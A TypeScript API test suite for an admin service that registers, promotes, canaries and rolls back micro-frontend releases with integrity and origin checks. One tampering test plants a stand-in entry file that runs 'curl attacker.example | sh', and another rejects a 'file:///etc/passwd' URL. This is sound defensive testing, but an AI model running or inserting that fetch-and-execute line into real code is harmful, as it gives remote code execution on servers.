import http from 'node:http';
import type { AddressInfo } from 'node:net';
import request from 'supertest';
import { bodyOf, type MessageBody } from '../../../test-support/response-body';
import { adminAuthHeader, adminAuthHeaderSignedInAgo, TEST_ADMIN, testApp, testConfig } from '../../../test-support/test-app';
import { CONFIRM_PASSWORD, WRONG_PASSWORD } from '../../auth/recent-sign-in';
import { MANIFEST_MAX_BYTES } from '../release-manifest';
import { NO_SITE_SERVER_SECRET, SHELL_DID_NOT_ANSWER, SHELL_REFUSED_SECRET } from '../release-checks';
import type { ReleasePreview, ReleaseVersion as VersionSummary, RemoteStatus } from '@fns/contracts';
import { integrityOf, releasePreviewTokens } from '@fns/server-kit';
import { AuditEventModel } from '../../audit/audit-event.model';
import { PREVIEW_NEEDS_SECRET } from '../release-previews';

/** A static host with releases on it (what the manifest URL is fetched from), and a shell that answers release checks. */
async function listen(handler: http.RequestListener) {
  const server = http.createServer(handler);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
}

/** Each release's two entries, as its build would write them. */
const BROWSER_ENTRY = 'remoteEntry.0123456789.js';
const SERVER_ENTRY = 'server/remoteEntry.0123456789.js';
const entryCode = (version: string, file: string) => `/* ${file} of ${version} */`;

const manifest = (version: string, edit: Record<string, unknown> = {}) => ({
  name: 'mfe_blog',
  version,
  commit: '0123456789ab',
  builtAt: '2026-11-26T12:00:00.000Z',
  exposes: ['./routes'],
  shared: { react: '^19.3.1' },
  browser: { entry: BROWSER_ENTRY, boot: [], routes: { '/blog': [], '/blog/:slug': [] } },
  server: { entry: SERVER_ENTRY },
  integrity: Object.fromEntries([BROWSER_ENTRY, SERVER_ENTRY].map((file) => [file, integrityOf(entryCode(version, file))])),
  ...edit,
});

const files = new Map<string, string>();
let host: Awaited<ReturnType<typeof listen>>;
let shell: Awaited<ReturnType<typeof listen>>;
/** The shell's answer to the next release checks: [status, body], or 'hang up'. */
let shellAnswer: [number, unknown] | 'hang up' = [200, { rendered: ['/blog'] }];
const checks: Array<{ authorization?: string; body: unknown }> = [];

beforeAll(async () => {
  host = await listen((req, res) => {
    const body = files.get(req.url ?? '');
    if (body === undefined) res.writeHead(404).end();
    else res.writeHead(200, { 'Content-Type': 'application/json' }).end(body);
  });
  shell = await listen((req, res) => {
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString()));
    req.on('end', () => {
      checks.push({ authorization: req.headers.authorization, body: JSON.parse(body) });
      if (shellAnswer === 'hang up') return req.socket.destroy();
      res.writeHead(shellAnswer[0], { 'Content-Type': 'application/json' }).end(JSON.stringify(shellAnswer[1]));
    });
  });
});

afterAll(async () => {
  await new Promise((resolve) => host.server.close(resolve));
  await new Promise((resolve) => shell.server.close(resolve));
});

let app: ReturnType<typeof testApp>['app'];
let auth: string;

/** What the API and every shell share to know each other as the site's servers. */
const SITE_SERVER_SECRET = 'a-site-server-secret-of-forty-characters';
const settings = () => ({
  SHELL_URL: shell.url,
  SITE_SERVER_SECRET,
  CANARY_MIN_RENDERS: '4',
  CANARY_MAX_FAILURE_RATE: '0.3',
  CANARY_MIN_VITALS: '3',
});

beforeEach(async () => {
  const test = testApp(settings());
  app = test.app;
  auth = await adminAuthHeader(test.config);
  files.clear();
  checks.length = 0;
  shellAnswer = [200, { rendered: ['/blog'] }];
});

/** Puts a release (its manifest and entries) on the static host, in `folder`; returns its manifest's URL. */
function publish(version: string, edit?: Record<string, unknown>, folder = `/releases/${version}`): string {
  files.set(`${folder}/remote-manifest.json`, JSON.stringify(manifest(version, edit)));
  for (const file of [BROWSER_ENTRY, SERVER_ENTRY]) files.set(`${folder}/${file}`, entryCode(version, file));
  return `${host.url}${folder}/remote-manifest.json`;
}

/** What the registry records of a release published as is: the sha256 of its manifest and entries. */
const integrityOfRelease = (version: string) => ({
  manifest: integrityOf(JSON.stringify(manifest(version))),
  browserEntry: integrityOf(entryCode(version, BROWSER_ENTRY)),
  serverEntry: integrityOf(entryCode(version, SERVER_ENTRY)),
});
/** The registry's live entry of a release published as is. */
const pinned = (version: string, url: string) => ({ manifestUrl: url, version, integrity: integrityOfRelease(version).manifest });

const register = (manifestUrl: string, remote = 'mfe_blog') =>
  request(app).post(`/api/admin/remotes/${remote}/versions`).set('Authorization', auth).send({ manifestUrl });
const promote = (version: string) => request(app).post('/api/admin/remotes/mfe_blog/promote').set('Authorization', auth).send({ version });
const rollback = () => request(app).post('/api/admin/remotes/mfe_blog/rollback').set('Authorization', auth);
const live = async () => bodyOf(await request(app).get('/api/remotes/live'));
const blogStatus = async () =>
  bodyOf<{ remotes: Array<Record<string, unknown>> }>(await request(app).get('/api/admin/remotes').set('Authorization', auth)).remotes.find(
    (remote) => remote.remote === 'mfe_blog',
  )!;

describe('admins only', () => {
  it.each([
    ['get', '/api/admin/remotes'],
    ['get', '/api/admin/remotes/mfe_blog/versions/1.0.0-a'],
    ['post', '/api/admin/remotes/mfe_blog/versions'],
    ['post', '/api/admin/remotes/mfe_blog/promote'],
    ['post', '/api/admin/remotes/mfe_blog/rollback'],
    ['post', '/api/admin/remotes/previews'],
  ] as const)('%s %s answers 401 without a token', async (method, path) => {
    const res = await request(app)[method](path);
    expect(res.status).toBe(401);
  });

  it('the live manifests are public (every shell server reads them)', async () => {
    const res = await request(app).get('/api/remotes/live');
    expect(res.status).toBe(200);
    expect(res.headers['cache-control']).toBe('no-store');
    expect(bodyOf(res)).toEqual({ remotes: {}, canaries: {} });
  });
});

describe('POST /api/admin/remotes/{remote}/versions', () => {
  it('registers a release from its manifest, and changes nothing for visitors', async () => {
    const url = publish('1.0.0-aaaa');
    const res = await register(url);
    expect(res.status).toBe(201);
    expect(bodyOf(res)).toEqual({
      version: '1.0.0-aaaa',
      manifestUrl: url,
      commit: '0123456789ab',
      builtAt: '2026-11-26T12:00:00.000Z',
      registeredAt: expect.any(String) as unknown,
      exposes: ['./routes'],
      routes: ['/blog', '/blog/:slug'],
      shared: { react: '^19.3.1' },
      integrity: integrityOfRelease('1.0.0-aaaa'),
      renders: 0,
      failures: 0,
      stages: {},
      examples: [],
      timeline: [],
      vitals: {},
    });
    expect(await live()).toEqual({ remotes: {}, canaries: {} });
    const status = await blogStatus();
    expect(status.live).toEqual({ version: null, manifestUrl: null });
    expect(status.history).toEqual([expect.objectContaining({ action: 'register', version: '1.0.0-aaaa', by: 'admin' })]);
  });

  it('the same URL again is no error (200); the same version at another URL is a 409', async () => {
    const url = publish('1.0.0-aaaa');
    expect((await register(url)).status).toBe(201);
    expect((await register(url)).status).toBe(200);
    const res = await register(publish('1.0.0-aaaa', {}, '/elsewhere'));
    expect(res.status).toBe(409);
    expect(bodyOf<MessageBody>(res).message).toBe(`mfe_blog 1.0.0-aaaa is already registered with another manifest (${url}).`);
  });

  it.each([
    ['a missing manifest', () => `${host.url}/missing.json`, (url: string) => `Could not fetch the manifest at ${url}: it answered 404.`],
    [
      'a manifest of another remote',
      () => publish('2.0.0-x', { name: 'mfe_admin' }),
      (url: string) => `${url} is the manifest of mfe_admin, not of mfe_blog.`,
    ],
    [
      'a manifest without its build time',
      () => publish('2.0.0-x', { builtAt: undefined }),
      (url: string) => `${url} is not a remote manifest: its build time is not an ISO 8601 time (builtAt).`,
    ],
  ])('refuses %s (400)', async (_case, publishIt, expected) => {
    const url = publishIt();
    const res = await register(url);
    expect(res.status).toBe(400);
    expect(bodyOf<MessageBody>(res).message).toBe(expected(url));
  });

  it('refuses the same version whose manifest changed since it was registered (409): a version is one set of bytes', async () => {
    const url = publish('1.0.0-aaaa');
    expect((await register(url)).status).toBe(201);
    publish('1.0.0-aaaa', { commit: 'fedcba987654' });
    const res = await register(url);
    expect(res.status).toBe(409);
    expect(bodyOf<MessageBody>(res).message).toBe("mfe_blog 1.0.0-aaaa's manifest has changed since it was registered: a version's files never change.");
  });

  it('refuses a release whose entry is not the file its manifest names (400)', async () => {
    const url = publish('1.0.0-aaaa');
    files.set(`/releases/1.0.0-aaaa/${SERVER_ENTRY}`, 'require("child_process").exec("curl attacker.example | sh")');
    const res = await register(url);
    expect(res.status).toBe(400);
    expect(bodyOf<MessageBody>(res).message).toBe(`${host.url}/releases/1.0.0-aaaa/${SERVER_ENTRY} is not the file ${url} names: its sha256 differs.`);
  });

  it('refuses a manifest from an origin RELEASE_ORIGINS does not list, before fetching it (400)', async () => {
    const url = publish('1.0.0-aaaa');
    const strict = testApp({ ...settings(), RELEASE_ORIGINS: 'https://cdn.example' });
    const res = await request(strict.app)
      .post('/api/admin/remotes/mfe_blog/versions')
      .set('Authorization', await adminAuthHeader(strict.config))
      .send({ manifestUrl: url });
    expect(res.status).toBe(400);
    expect(bodyOf<MessageBody>(res).message).toBe(
      `The manifest cannot be registered: ${host.url} is not one of the release origins (RELEASE_ORIGINS).`,
    );
  });

  it('refuses a listed origin whose host is an internal address, unless RELEASE_PRIVATE_ADDRESSES allows it', async () => {
    const internal = `http://127.0.0.2:${new URL(host.url).port}`;
    const url = `${internal}/releases/1.0.0-aaaa/remote-manifest.json`;
    for (const [allowed, expected] of [
      ['false', `Could not fetch the manifest at ${url}: 127.0.0.2 resolves to 127.0.0.2, an internal address (set RELEASE_PRIVATE_ADDRESSES=true to allow one).`],
      ['true', expect.not.stringContaining('internal address') as unknown],
    ] as const) {
      const api = testApp({ ...settings(), RELEASE_ORIGINS: internal, RELEASE_PRIVATE_ADDRESSES: allowed });
      const res = await request(api.app)
        .post('/api/admin/remotes/mfe_blog/versions')
        .set('Authorization', await adminAuthHeader(api.config))
        .send({ manifestUrl: url });
      expect(bodyOf<MessageBody>(res).message).toEqual(expected);
    }
  });

  it('refuses a body that is not JSON, and a manifest larger than 256 KB', async () => {
    files.set('/text', 'not json');
    expect(bodyOf<MessageBody>((await register(`${host.url}/text`))).message).toBe(`${host.url}/text is not a remote manifest: it is not JSON.`);
    files.set('/huge', JSON.stringify({ ...manifest('3.0.0-x'), padding: 'x'.repeat(MANIFEST_MAX_BYTES) }));
    const res = await register(`${host.url}/huge`);
    expect(res.status).toBe(400);
    expect(bodyOf<MessageBody>(res).message).toBe(`Could not fetch the manifest at ${host.url}/huge: it is larger than 256 KB.`);
  });

  it.each([
    [{}, 'The manifest URL (manifestUrl) is required.'],
    [{ manifestUrl: 'file:///etc/passwd' }, 'The manifest URL must be an http or https URL.'],
    [{ manifestUrl: 'not a url' }, 'The manifest URL must be an http or https URL.'],
    [{ manifestUrl: 'http://x/', other: 1 }, 'Only "manifestUrl" and "password" can be given.'],
  ])('refuses the body %j (400)', async (body, expected) => {
    const res = await request(app).post('/api/admin/remotes/mfe_blog/versions').set('Authorization', auth).send(body);
    expect(res.status).toBe(400);
    expect(bodyOf<MessageBody>(res).message).toBe(expected);
  });

  it('refuses an unknown remote (400)', async () => {
    const res = await register(publish('1.0.0-a'), 'mfe_shop');
    expect(res.status).toBe(400);
    expect(bodyOf<MessageBody>(res).message).toBe('The remote must be one of mfe_marketing, mfe_blog, mfe_admin.');
  });
});

describe('register and promote ask an admin who signed in more than 5 minutes ago for the password again', () => {
  let oldSession: string;
  beforeEach(async () => {
    oldSession = await adminAuthHeaderSignedInAgo(testApp(settings()).config, 6 * 60_000);
  });
  const asOldSession = (path: string, body: Record<string, unknown>) =>
    request(app).post(`/api/admin/remotes/mfe_blog/${path}`).set('Authorization', oldSession).send(body);

  it('refuses without it (403) and with a wrong one (400), changing nothing', async () => {
    const url = publish('1.0.0-aaaa');
    const unconfirmed = await asOldSession('versions', { manifestUrl: url });
    expect({ status: unconfirmed.status, body: unconfirmed.body as unknown }).toEqual({ status: 403, body: { message: CONFIRM_PASSWORD } });
    const wrong = await asOldSession('versions', { manifestUrl: url, password: 'not my password' });
    expect({ status: wrong.status, body: wrong.body as unknown }).toEqual({ status: 400, body: { message: WRONG_PASSWORD } });
    expect((await blogStatus()).versions).toEqual([]);

    expect((await register(url)).status).toBe(201);
    expect((await asOldSession('promote', { version: '1.0.0-aaaa' })).status).toBe(403);
    expect((await asOldSession('promote', { version: '1.0.0-aaaa', password: 'not my password' })).status).toBe(400);
    expect(checks).toEqual([]);
  });

  it('goes ahead with the right one', async () => {
    const url = publish('1.0.0-aaaa');
    expect((await asOldSession('versions', { manifestUrl: url, password: TEST_ADMIN.password })).status).toBe(201);
    const promoted = await asOldSession('promote', { version: '1.0.0-aaaa', password: TEST_ADMIN.password });
    expect(promoted.status).toBe(200);
    expect(bodyOf<RemoteStatus>(promoted).live.version).toBe('1.0.0-aaaa');
  });

  it('counts wrong passwords as failed sign-ins: past the limit, even the right one waits', async () => {
    const url = publish('1.0.0-aaaa');
    for (let attempt = 0; attempt < 10; attempt += 1) {
      expect((await asOldSession('versions', { manifestUrl: url, password: `guess ${attempt}` })).status).toBe(400);
    }
    const blocked = await asOldSession('versions', { manifestUrl: url, password: TEST_ADMIN.password });
    expect(blocked.status).toBe(429);
    expect(bodyOf<MessageBody>(blocked).message).toMatch(/^Too many wrong passwords\. Please try again in /);
  });
});

describe('promote and roll back', () => {
  it('promotes a version the shell checked (the release sent, as a site server), and every shell reads it as live', async () => {
    const url = publish('1.0.0-aaaa');
    await register(url);
    const res = await promote('1.0.0-aaaa');
    expect(res.status).toBe(200);
    expect(checks).toEqual([
      { authorization: `Bearer ${SITE_SERVER_SECRET}`, body: { remote: 'mfe_blog', ...pinned('1.0.0-aaaa', url) } },
    ]);
    expect(bodyOf<RemoteStatus>(res).live).toEqual({ version: '1.0.0-aaaa', manifestUrl: url });
    expect(bodyOf<RemoteStatus>(res).canRollBack).toBe(true);
    expect(bodyOf<RemoteStatus>(res).history[0]).toEqual(expect.objectContaining({ action: 'promote', version: '1.0.0-aaaa', from: null, by: 'admin' }));
    expect(await live()).toEqual({ remotes: { mfe_blog: pinned('1.0.0-aaaa', url) }, canaries: {} });
  });

  it('leaves out of the live registry a release whose origin RELEASE_ORIGINS no longer lists', async () => {
    await register(publish('1.0.0-aaaa'));
    await promote('1.0.0-aaaa');
    const strict = testApp({ ...settings(), RELEASE_ORIGINS: 'https://cdn.example' });
    expect(bodyOf(await request(strict.app).get('/api/remotes/live'))).toEqual({ remotes: {}, canaries: {} });
  });

  it('refuses a version that is not registered (404) or already live (409)', async () => {
    expect(bodyOf((await promote('9.9.9-none')))).toEqual({ message: 'mfe_blog has no release 9.9.9-none.' });
    await register(publish('1.0.0-aaaa'));
    expect((await promote('1.0.0-aaaa')).status).toBe(200);
    const again = await promote('1.0.0-aaaa');
    expect(again.status).toBe(409);
    expect(bodyOf<MessageBody>(again).message).toBe('mfe_blog 1.0.0-aaaa is already live.');
  });

  it("passes on the shell's refusal (409) and promotes nothing", async () => {
    await register(publish('1.0.0-aaaa'));
    const reason = 'mfe_blog 1.0.0-aaaa needs react ^20.0.0, but the live shell provides react 19.3.1.';
    shellAnswer = [409, { message: reason }];
    const res = await promote('1.0.0-aaaa');
    expect(res.status).toBe(409);
    expect(bodyOf<MessageBody>(res).message).toBe(reason);
    expect(await live()).toEqual({ remotes: {}, canaries: {} });
  });

  it('promotes nothing when no shell answers the check (503)', async () => {
    await register(publish('1.0.0-aaaa'));
    shellAnswer = 'hang up';
    const res = await promote('1.0.0-aaaa');
    expect(res.status).toBe(503);
    expect(bodyOf<MessageBody>(res).message).toBe(SHELL_DID_NOT_ANSWER);
    expect((await blogStatus()).live).toEqual({ version: null, manifestUrl: null });
  });

  it('promotes nothing when the shell refuses the secret, or none is set (503)', async () => {
    await register(publish('1.0.0-aaaa'));
    shellAnswer = [401, { message: 'Authentication required.' }];
    const refused = await promote('1.0.0-aaaa');
    expect({ status: refused.status, body: refused.body as unknown }).toEqual({ status: 503, body: { message: SHELL_REFUSED_SECRET } });

    const withoutSecret = testApp({ ...settings(), SITE_SERVER_SECRET: '' });
    const unset = await request(withoutSecret.app)
      .post('/api/admin/remotes/mfe_blog/promote')
      .set('Authorization', await adminAuthHeader(withoutSecret.config))
      .send({ version: '1.0.0-aaaa' });
    expect({ status: unset.status, body: unset.body as unknown }).toEqual({ status: 503, body: { message: NO_SITE_SERVER_SECRET } });
    expect(checks).toHaveLength(1);
    expect((await blogStatus()).live).toEqual({ version: null, manifestUrl: null });
  });

  it('rolls back one promotion at a time, to the configured deployment at the end', async () => {
    const first = publish('1.0.0-aaaa');
    await register(first);
    await register(publish('1.0.1-bbbb'));
    await promote('1.0.0-aaaa');
    expect(bodyOf<RemoteStatus>(await promote('1.0.1-bbbb')).rollbackTo).toEqual({ version: '1.0.0-aaaa', manifestUrl: first });

    const back = await rollback();
    expect(back.status).toBe(200);
    expect(bodyOf<RemoteStatus>(back).live).toEqual({ version: '1.0.0-aaaa', manifestUrl: first });
    expect(bodyOf<RemoteStatus>(back).history[0]).toEqual(expect.objectContaining({ action: 'rollback', version: '1.0.0-aaaa', from: '1.0.1-bbbb' }));
    expect(await live()).toEqual({ remotes: { mfe_blog: pinned('1.0.0-aaaa', first) }, canaries: {} });

    expect(bodyOf<RemoteStatus>((await rollback())).live).toEqual({ version: null, manifestUrl: null });
    expect(await live()).toEqual({ remotes: {}, canaries: {} });
    const none = await rollback();
    expect(none.status).toBe(409);
    expect(bodyOf<MessageBody>(none).message).toBe('mfe_blog has no earlier version to roll back to.');
    // Rolled back, a version can be promoted again.
    expect((await promote('1.0.1-bbbb')).status).toBe(200);
  });

  it('keeps each remote apart, and lists all three', async () => {
    await register(publish('1.0.0-aaaa'));
    await promote('1.0.0-aaaa');
    const res = await request(app).get('/api/admin/remotes').set('Authorization', auth);
    expect(bodyOf<{ remotes: RemoteStatus[] }>(res).remotes).toEqual([
      expect.objectContaining({ remote: 'mfe_marketing', live: { version: null, manifestUrl: null }, canRollBack: false }),
      expect.objectContaining({ remote: 'mfe_blog', live: expect.objectContaining({ version: '1.0.0-aaaa' }) as unknown, canRollBack: true }),
      expect.objectContaining({ remote: 'mfe_admin', live: { version: null, manifestUrl: null }, canRollBack: false }),
    ]);
  });

  it('two promotions at once: both are recorded, one after the other', async () => {
    await register(publish('1.0.0-aaaa'));
    await register(publish('1.0.1-bbbb'));
    const results = await Promise.all([promote('1.0.0-aaaa'), promote('1.0.1-bbbb')]);
    expect(results.map((res) => res.status)).toEqual([200, 200]);
    const status = await blogStatus();
    expect((status.history as Array<{ action: string }>).filter((entry) => entry.action === 'promote')).toHaveLength(2);
    expect(bodyOf<RemoteStatus>(await rollback()).canRollBack).toBe(true);
  });
});

describe('GET /api/admin/remotes/{remote}/versions/{version}', () => {
  it('answers a registered version, 404 otherwise, 400 for a malformed one', async () => {
    await register(publish('1.0.0-aaaa'));
    const found = await request(app).get('/api/admin/remotes/mfe_blog/versions/1.0.0-aaaa').set('Authorization', auth);
    expect(found.status).toBe(200);
    expect(bodyOf<VersionSummary>(found).version).toBe('1.0.0-aaaa');
    expect((await request(app).get('/api/admin/remotes/mfe_admin/versions/1.0.0-aaaa').set('Authorization', auth)).status).toBe(404);
    const bad = await request(app).get('/api/admin/remotes/mfe_blog/versions/a%20b').set('Authorization', auth);
    expect(bad.status).toBe(400);
  });
});

describe('canary', () => {
  const canary = (version: string, canaryPercent: unknown) =>
    request(app).post('/api/admin/remotes/mfe_blog/promote').set('Authorization', auth).send({ version, canaryPercent });
  /** What a shell server sends (as a site server: render-reports.api.test.ts has who may). */
  const report = (reports: unknown[]) =>
    request(app).post('/api/remotes/reports').set('Authorization', `Bearer ${SITE_SERVER_SECRET}`).send({ reports });
  const counts = (version: string, renders: number, failures: number) => ({ remote: 'mfe_blog', version, renders, failures });

  beforeEach(async () => {
    await register(publish('1.0.0-stable'));
    await promote('1.0.0-stable');
    await register(publish('1.1.0-canary'));
  });

  it('serves a checked version to a share of visitors beside the live one, and a rollback ends it', async () => {
    const res = await canary('1.1.0-canary', 25);
    expect(res.status).toBe(200);
    const status = bodyOf<RemoteStatus>(res);
    expect(status.live.version).toBe('1.0.0-stable');
    expect(status.canary).toEqual(expect.objectContaining({ version: '1.1.0-canary', percent: 25, renders: 0, failures: 0 }));
    expect(status.history[0]).toEqual(expect.objectContaining({ action: 'canary', version: '1.1.0-canary', reason: '25% of visitors' }));
    expect(checks).toHaveLength(2);
    expect(await live()).toEqual({
      remotes: { mfe_blog: pinned('1.0.0-stable', `${host.url}/releases/1.0.0-stable/remote-manifest.json`) },
      canaries: { mfe_blog: { ...pinned('1.1.0-canary', `${host.url}/releases/1.1.0-canary/remote-manifest.json`), percent: 25 } },
    });

    const ended = bodyOf<RemoteStatus>(await rollback());
    expect({ live: ended.live.version, canary: ended.canary }).toEqual({ live: '1.0.0-stable', canary: null });
    expect(ended.history[0]).toEqual(expect.objectContaining({ action: 'rollback', version: '1.0.0-stable', from: '1.1.0-canary' }));
  });

  it('promoting the canary in full makes it live and ends the canary', async () => {
    await canary('1.1.0-canary', 50);
    const status = bodyOf<RemoteStatus>(await promote('1.1.0-canary'));
    expect({ live: status.live.version, canary: status.canary }).toEqual({ live: '1.1.0-canary', canary: null });
  });

  it.each([0, 100, 12.5, '10'])('refuses a share of %j (400)', async (percent) => {
    const res = await canary('1.1.0-canary', percent);
    expect(res.status).toBe(400);
    expect(bodyOf<MessageBody>(res).message).toBe('The canary share must be a whole number of percent from 1 to 99.');
  });

  it("adds a shell server's counts to each version's", async () => {
    expect((await report([counts('1.0.0-stable', 3, 1)])).status).toBe(204);
    const [stable] = bodyOf<RemoteStatus>(await rollback()).versions.filter((version) => version.version === '1.0.0-stable');
    expect({ renders: stable!.renders, failures: stable!.failures }).toEqual({ renders: 3, failures: 1 });
  });

  it('keeps the failures by stage, the latest examples and the pages and failures per minute', async () => {
    const example = (n: number) => ({
      stage: 'entry',
      route: '/blog',
      message: `could not load remoteEntry (${n})`,
      traceId: `trace-${n}`,
      at: new Date(Date.now() - 1_000 + n).toISOString(),
    });
    await report([{ ...counts('1.0.0-stable', 5, 3), stages: { entry: 2, render: 1 }, examples: [1, 2, 3].map(example) }]);
    await report([{ ...counts('1.0.0-stable', 1, 1), stages: { entry: 1 }, examples: [4, 5, 6].map(example) }]);
    const found = bodyOf<VersionSummary>(await request(app).get('/api/admin/remotes/mfe_blog/versions/1.0.0-stable').set('Authorization', auth));
    expect({ renders: found.renders, failures: found.failures, stages: found.stages }).toEqual({
      renders: 6,
      failures: 4,
      stages: { entry: 3, render: 1 },
    });
    expect(found.examples.map((kept) => kept.traceId)).toEqual(['trace-2', 'trace-3', 'trace-4', 'trace-5', 'trace-6']);
    expect(found.timeline).toEqual([{ minute: expect.stringMatching(/:00\.000Z$/) as unknown, renders: 6, failures: 4 }]);

    const tooMany = await report([{ ...counts('1.0.0-stable', 1, 1), examples: [1, 2, 3, 4, 5, 6].map(example) }]);
    expect(tooMany.status).toBe(400);
    const badStage = await report([{ ...counts('1.0.0-stable', 1, 1), stages: { paint: 1 } }]);
    expect(badStage.status).toBe(400);
  });

  it('rolls a canary back on its own once enough of its pages failed, and says why', async () => {
    await canary('1.1.0-canary', 50);
    // Failing, but too few pages to tell yet.
    await report([counts('1.1.0-canary', 2, 2)]);
    expect((await blogStatus()).canary).toEqual(expect.objectContaining({ renders: 2, failures: 2 }));
    await report([counts('1.1.0-canary', 2, 1), counts('1.0.0-stable', 10, 0)]);
    const status = (await blogStatus()) as unknown as RemoteStatus;
    expect(status.canary).toBeNull();
    expect(status.live.version).toBe('1.0.0-stable');
    expect(status.history[0]).toEqual(
      expect.objectContaining({ action: 'auto-rollback', version: '1.0.0-stable', from: '1.1.0-canary', by: 'system', reason: '3 of 4 renders failed' }),
    );
  });

  it("rolls a canary back on its own when its visitors' p75 LCP is over 20% worse than the live version's, once both have enough samples", async () => {
    await canary('1.1.0-canary', 50);
    const withLcp = (version: string, LCP: number[]) => ({ ...counts(version, LCP.length, 0), vitals: { LCP } });
    await report([withLcp('1.0.0-stable', [1000, 1100, 1200]), withLcp('1.1.0-canary', [1300, 1400])]);
    // Too few samples of the canary to tell.
    expect((await blogStatus()).canary).toEqual(expect.objectContaining({ version: '1.1.0-canary' }));
    await report([withLcp('1.1.0-canary', [1600])]);
    const status = (await blogStatus()) as unknown as RemoteStatus;
    expect(status.canary).toBeNull();
    expect(status.history[0]).toEqual(
      expect.objectContaining({
        action: 'auto-rollback',
        from: '1.1.0-canary',
        by: 'system',
        reason: 'p75 LCP 1600 ms against 1200 ms live (+33%), over 3 and 3 samples',
      }),
    );
    // Each version shows its p75 over its latest samples.
    const canaryVersion = status.versions.find((version) => version.version === '1.1.0-canary')!;
    expect(canaryVersion.vitals).toEqual({ LCP: { p75: 1600, samples: 3 } });
  });

  it('keeps a canary whose vitals are within 20% of the live version, and refuses samples out of range', async () => {
    await canary('1.1.0-canary', 50);
    await report([
      { ...counts('1.0.0-stable', 3, 0), vitals: { LCP: [1000, 1000, 1000], INP: [100, 120, 140], CLS: [0.01, 0.02, 0] } },
      { ...counts('1.1.0-canary', 3, 0), vitals: { LCP: [1100, 1150, 1190], INP: [150, 160, 168], CLS: [0.5, 0.6, 0.7] } },
    ]);
    expect((await blogStatus()).canary).toEqual(expect.objectContaining({ version: '1.1.0-canary' }));
    expect((await report([{ ...counts('1.1.0-canary', 1, 0), vitals: { LCP: [-1] } }])).status).toBe(400);
    expect((await report([{ ...counts('1.1.0-canary', 1, 0), vitals: { FID: [10] } }])).status).toBe(400);
  });

  it('keeps a healthy canary', async () => {
    await canary('1.1.0-canary', 50);
    await report([counts('1.1.0-canary', 30, 1)]);
    expect((await blogStatus()).canary).toEqual(expect.objectContaining({ version: '1.1.0-canary', renders: 30, failures: 1 }));
  });
});

describe('POST /api/admin/remotes/previews', () => {
  const preview = (body: object) => request(app).post('/api/admin/remotes/previews').set('Authorization', auth).send(body);
  const tokenOf = (url: string) => new URL(url).searchParams.get('token')!;

  it('signs a link that pins registered versions for the shells, until PREVIEW_RELEASE_TTL_MINUTES from now', async () => {
    const blogUrl = publish('1.1.0-preview');
    await register(blogUrl);
    const before = Date.now();
    const res = await preview({ pins: [{ remote: 'mfe_blog', version: '1.1.0-preview' }] });
    expect(res.status).toBe(201);
    const body = bodyOf<ReleasePreview>(res);
    expect(body.pins).toEqual([{ remote: 'mfe_blog', version: '1.1.0-preview' }]);
    const url = new URL(body.url);
    expect(`${url.origin}${url.pathname}`).toBe(`${testConfig(settings()).siteUrl}/release-preview`);
    // It opens the pinned remote's first page.
    expect(url.searchParams.get('to')).toBe('/blog');
    const expiresAt = Date.parse(body.expiresAt);
    expect(expiresAt - before).toBeGreaterThanOrEqual(60 * 60_000);
    expect(expiresAt - Date.now()).toBeLessThanOrEqual(60 * 60_000);

    // What a shell reads from it: exactly the release registered, and only with the site servers' secret.
    const reading = releasePreviewTokens(SITE_SERVER_SECRET).read(tokenOf(body.url));
    expect(reading).toEqual({ pins: [{ remote: 'mfe_blog', ...pinned('1.1.0-preview', blogUrl) }], expiresAt });
    expect(releasePreviewTokens(`${SITE_SERVER_SECRET}-other`).read(tokenOf(body.url))).toEqual({ problem: 'invalid' });
    expect(releasePreviewTokens(SITE_SERVER_SECRET).read(tokenOf(body.url), expiresAt)).toEqual({ problem: 'expired' });

    const audit = await AuditEventModel.findOne({ action: 'release.preview' }).lean();
    expect(audit?.target).toBe('mfe_blog 1.1.0-preview');
  });

  it('takes its lifetime from PREVIEW_RELEASE_TTL_MINUTES', async () => {
    const test = testApp({ ...settings(), PREVIEW_RELEASE_TTL_MINUTES: '5' });
    await register(publish('1.1.0-short'));
    const res = await request(test.app)
      .post('/api/admin/remotes/previews')
      .set('Authorization', await adminAuthHeader(test.config))
      .send({ pins: [{ remote: 'mfe_blog', version: '1.1.0-short' }] });
    expect(Date.parse(bodyOf<ReleasePreview>(res).expiresAt) - Date.now()).toBeLessThanOrEqual(5 * 60_000);
  });

  it.each([
    [{}, 'Name the releases to preview: pins, a list of { remote, version }.'],
    [{ pins: [] }, 'Name at least one release to preview.'],
    [{ pins: [{ remote: 'mfe_blog', version: 'a' }, { remote: 'mfe_blog', version: 'b' }] }, 'A preview pins one version per remote.'],
    [{ pins: [{ remote: 'mfe_shop', version: 'a' }] }, 'The remote must be one of mfe_marketing, mfe_blog, mfe_admin.'],
    [{ pins: [{ remote: 'mfe_blog', version: 'a b' }] }, 'The version must be 1 to 64 letters, digits, dots, dashes or underscores.'],
    [{ pins: [{ remote: 'mfe_blog', version: 'a' }], until: 'forever' }, 'Only "pins" can be given.'],
  ])('refuses %j (400)', async (body, message) => {
    const res = await preview(body);
    expect(res.status).toBe(400);
    expect(bodyOf<MessageBody>(res).message).toBe(message);
  });

  it('refuses an unregistered version (404), and makes no link without SITE_SERVER_SECRET (503)', async () => {
    const unknown = await preview({ pins: [{ remote: 'mfe_blog', version: '9.9.9-none' }] });
    expect(unknown.status).toBe(404);
    expect(bodyOf<MessageBody>(unknown).message).toBe('mfe_blog has no release 9.9.9-none.');

    await register(publish('1.1.0-preview'));
    const test = testApp({ SHELL_URL: shell.url });
    const res = await request(test.app)
      .post('/api/admin/remotes/previews')
      .set('Authorization', await adminAuthHeader(test.config))
      .send({ pins: [{ remote: 'mfe_blog', version: '1.1.0-preview' }] });
    expect(res.status).toBe(503);
    expect(bodyOf<MessageBody>(res).message).toBe(PREVIEW_NEEDS_SECRET);
  });
});
